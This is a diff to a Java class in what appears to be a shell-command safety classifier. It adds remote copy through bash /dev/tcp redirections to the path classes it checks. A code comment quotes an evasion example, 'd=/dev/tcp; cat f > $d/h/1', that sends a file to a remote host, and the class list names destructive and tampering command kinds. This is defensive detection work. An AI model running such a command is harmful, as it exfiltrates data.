@@ -27,10 +27,14 @@ import java.util.regex.Pattern;
 final class RelativePaths {
   private RelativePaths() {}
 
-  /** The classes that judge a command's or a redirection's path. */
+  /**
+   * The classes that judge a command's or a redirection's path; remote-copy for bash's own {@code
+   * /dev/tcp/HOST/PORT} redirections, whose name may come from a variable ({@code d=/dev/tcp; cat f
+   * > $d/h/1}: attack 17cm).
+   */
   static final Set<ShellClass> PATH_CLASSES = EnumSet.of(ShellClass.RECURSIVE_DELETE_ROOT, ShellClass.FILESYSTEM_FORMAT,
       ShellClass.RAW_DEVICE_WRITE, ShellClass.POWER, ShellClass.HISTORY_TAMPER, ShellClass.AUDIT_TAMPER,
-      ShellClass.USER_CHANGE, ShellClass.SCHEDULER_CHANGE);
+      ShellClass.USER_CHANGE, ShellClass.SCHEDULER_CHANGE, ShellClass.REMOTE_COPY);
 
   /**
    * The commands and writes whose words read otherwise from the directories the text changes to
